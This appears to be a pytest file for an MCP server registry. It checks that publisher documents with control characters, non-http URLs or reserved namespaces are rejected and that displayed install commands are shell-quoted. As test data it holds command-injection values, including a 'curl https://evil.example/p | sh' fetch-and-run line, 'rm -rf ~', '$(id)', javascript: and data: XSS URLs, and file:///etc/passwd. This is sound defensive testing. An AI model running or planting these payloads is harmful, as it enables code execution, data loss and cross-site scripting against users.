"""Publisher text never becomes a command or a link it should not: control characters are refused in
every one-line value of a document (names, identifiers, arguments, variables, URLs) at publish and
mirror time, only http(s) URLs are stored, and the catalog quotes each word of the commands it shows for
the shell (rows stored before the rule included). One namespace, whatever its case or stray dots: the
gateway's names and the registries' `_meta` keys are refused in every form."""

import json
import shlex

import pytest

from catalog.documents import document_problem
from catalog.install import ways_to_use
from catalog.models import ServerVersion, Upstream
from catalog.services.mirroring import upstream_sync
from tests.catalog.official_pages import OfficialPages, official_entry
from tests.factories import stored_version

pytestmark = pytest.mark.django_db

SCHEMA = "https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json"


def _doc(**fields) -> dict:
    return {"$schema": SCHEMA, "name": "com.acme/tool", "description": "A tool", "version": "1.0.0"} | fields


def _npm(**fields) -> dict:
    return {
        "registryType": "npm",
        "identifier": "innocent",
        "version": "1.0.0",
        "transport": {"type": "stdio"},
    } | fields


def _mirrored(entries: list[dict]):
    """The report of one sync of an upstream serving `entries`."""
    pages = OfficialPages(entries)
    try:
        return upstream_sync(Upstream.objects.create(name="upstream", url=pages.url))
    finally:
        pages.stop()


INJECTED = "innocent\ncurl https://evil.example/p | sh #"
CONTROLS = ["\n", "\r", "\t", "\x00", "\x1b", "\x7f", "\x85", "\u2028", "\u202e", "\u2066"]

HOSTILE = {
    "identifier": _doc(packages=[_npm(identifier=INJECTED)]),
    "version": _doc(packages=[_npm(version="1.0.0\n| sh")]),
    "runtime-hint": _doc(packages=[_npm(runtimeHint="npx\nrm")]),
    "package-argument": _doc(packages=[_npm(packageArguments=[{"type": "positional", "value": "a\nb"}])]),
    "runtime-argument": _doc(
        packages=[_npm(runtimeArguments=[{"type": "named", "name": "--x", "value": "1;\rreboot"}])]
    ),
    "variable-name": _doc(packages=[_npm(environmentVariables=[{"name": "KEY\n", "description": "k"}])]),
    "transport-url": _doc(
        packages=[_npm(transport={"type": "streamable-http", "url": "https://x.test/\u202emcp"})]
    ),
    "remote-url": _doc(remotes=[{"type": "streamable-http", "url": "https://x.test/mcp\n"}]),
    "website": _doc(websiteUrl="javascript:alert(1)"),
    "website-data": _doc(websiteUrl="data:text/html,<script>alert(1)</script>"),
    "repository": _doc(repository={"url": "javascript:alert(1)", "source": "github"}),
    "remote-scheme": _doc(remotes=[{"type": "sse", "url": "file:///etc/passwd"}]),
    "mcpb-http": _doc(
        packages=[_npm(registryType="mcpb", identifier="http://x.test/b.mcpb", fileSha256="a" * 64)]
    ),
}


@pytest.mark.parametrize("document", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_document_is_refused_with_where(document):
    problem = document_problem(document)

    assert problem is not None
    assert any(
        reason in problem
        for reason in (
            "Control characters are not allowed",
            "only http and https URLs",
            "https URL",
            "Not a valid",
        )
    )


@pytest.mark.parametrize("control", CONTROLS, ids=[repr(c) for c in CONTROLS])
def test_every_control_character_is_refused_in_an_identifier(control):
    assert document_problem(_doc(packages=[_npm(identifier=f"a{control}b")])) is not None


def test_descriptions_may_span_lines_and_the_real_samples_all_pass():
    from tests.catalog.test_mirroring import VALID

    assert (
        document_problem(_doc(packages=[_npm(environmentVariables=[{"name": "K", "description": "a\nb"}])]))
        is None
    )
    assert [d["name"] for d in VALID if document_problem(d) is not None] == []


def test_a_publish_of_a_hostile_document_stores_nothing(client, member, token_for):
    token = token_for(member("ada", "mcp-registry-admin"))

    answers = [
        client.post(
            "/v0.1/publish",
            json.dumps(document),
            content_type="application/json",
            headers={"Authorization": f"Bearer {token}"},
        )
        for document in HOSTILE.values()
    ]

    assert [answer.status_code for answer in answers] == [400] * len(HOSTILE)
    assert ServerVersion.objects.count() == 0


@pytest.mark.django_db(transaction=True)
def test_a_mirror_counts_hostile_entries_as_failed_and_stores_the_rest():
    entries = [
        official_entry(document | {"name": f"com.acme/{key}"}, "2026-05-01T00:00:00Z")
        for key, document in HOSTILE.items()
    ]
    entries.append(official_entry(_doc(name="com.acme/fine"), "2026-05-01T00:00:00Z"))
    report = _mirrored(entries)

    assert (report.added, report.failed) == (1, len(HOSTILE))
    assert list(ServerVersion.objects.values_list("name", flat=True)) == ["com.acme/fine"]


def test_commands_quote_every_word_of_rows_stored_before_the_rule(client, member):
    document = _doc(
        packages=[
            _npm(identifier=INJECTED),
            _npm(registryType="pypi", identifier="x; rm -rf ~", version="1"),
            _npm(registryType="oci", identifier="img$(id)", version="1"),
            _npm(registryType="cargo", identifier="c`id`", version="1"),
        ]
    )

    ways = ways_to_use(document)

    assert [shlex.split(way.command) for way in ways] == [
        ["npx", "-y", f"{INJECTED}@1.0.0"],
        ["uvx", "x; rm -rf ~==1"],
        ["docker", "run", "-i", "--rm", "img$(id):1"],
        ["cargo", "install", "c`id`", "--version", "1"],
    ]


def test_the_catalog_shows_only_http_links(client, member):
    client.force_login(member("reader"))
    stored_version(
        "com.acme/evil", websiteUrl="javascript:alert(1)", remotes=[{"type": "sse", "url": "javascript:x"}]
    )
    stored_version("com.acme/good", websiteUrl="https://acme.example/docs")

    page = client.get("/catalog").content.decode()

    assert "javascript:" not in page
    assert 'href="https://acme.example/docs"' in page


NAMESPACE_FORMS = [
    "IO.MCPGATEWAY/gwa",
    "Io.McpGateway/gwa",
    "io.mcpgateway./gwa",
    ".io.mcpgateway/gwa",
    "io..mcpgateway/gwa",
]


@pytest.mark.parametrize("name", NAMESPACE_FORMS)
def test_the_gateways_namespace_is_refused_in_any_form(client, member, token_for, name):
    token = token_for(member("ada", "mcp-registry-admin"))

    answer = client.post(
        "/v0.1/publish",
        json.dumps(_doc(name=name)),
        content_type="application/json",
        headers={"Authorization": f"Bearer {token}"},
    )

    assert answer.status_code == 403
    assert answer.json()["error"]["message"].startswith("Names under io.mcpgateway/ are the servers of this")
    assert ServerVersion.objects.count() == 0


RESERVED_KEYS = [
    "IO.MCPGATEWAY/internal",
    "io.mcpgateway./mirror",
    "IO.MODELCONTEXTPROTOCOL.REGISTRY/official",
    "io.modelcontextprotocol.registry./Official",
    "io.modelcontextprotocol.registry/anything",
]


@pytest.mark.parametrize("key", RESERVED_KEYS)
def test_reserved_meta_keys_are_refused_in_any_form(key):
    assert (
        document_problem(_doc(_meta={key: {"x": 1}}))
        == f"_meta.{key} is written by the registry, not by publishers."
    )


def test_publisher_provided_meta_stays_allowed():
    assert (
        document_problem(_doc(_meta={"io.modelcontextprotocol.registry/publisher-provided": {"x": 1}}))
        is None
    )


@pytest.mark.django_db(transaction=True)
def test_a_mirror_refuses_the_gateways_namespace_in_any_form():
    entries = [official_entry(_doc(name=name), "2026-05-01T00:00:00Z") for name in NAMESPACE_FORMS]
    report = _mirrored(entries)

    assert (report.added, report.failed) == (0, len(NAMESPACE_FORMS))
